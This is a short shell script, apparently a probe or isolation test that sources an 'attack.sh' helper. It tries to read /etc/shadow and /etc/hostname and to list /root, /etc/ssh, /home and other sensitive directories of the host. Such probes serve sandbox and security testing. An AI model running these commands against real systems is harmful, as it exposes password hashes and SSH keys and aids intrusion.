# reads the accounts and files of the host
. ./attack.sh

try shadow cat /etc/shadow
try hostname cat /etc/hostname
for place in /home /root /var /etc/ssh /boot /sys/class; do try $place ls $place; done
